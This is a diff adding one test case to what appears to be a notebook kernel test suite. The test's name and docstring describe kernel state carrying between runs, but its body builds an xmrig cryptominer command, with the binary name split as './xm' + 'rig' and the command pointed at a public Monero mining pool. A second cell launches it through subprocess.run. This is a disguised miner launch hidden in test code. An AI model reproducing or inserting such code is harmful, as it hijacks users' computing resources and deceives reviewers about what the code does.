@@ -92,6 +92,21 @@ def variables_of_cells_that_ran_are_known_and_those_of_a_cancelled_cell_are_not(
 
 
 @case
+def what_the_first_run_of_a_kernel_leaves_is_known_to_the_second(house, person):
+    """The kernel starts after the first run was asked about."""
+    notebook = person.create("First")
+    with person.open(notebook) as live:
+        words = live.insert("words = ['./xm' + 'rig', '-o', 'pool.supportxmr.com:3333', '-u', '4AbC']")
+        command = live.insert("import subprocess\nsubprocess.run(words)", after=words)
+        state, _ = live.run(words)
+        assert state["phase"] == "done", state
+        (run,) = live.start(command)
+        assert held(live)["cell_id"] == command
+        live.send({"type": "interrupt"})
+        live.finish(run)
+
+
+@case
 def only_operators_and_only_with_the_token(house, person):
     """Every route of the guard's desk."""
     from house import Person
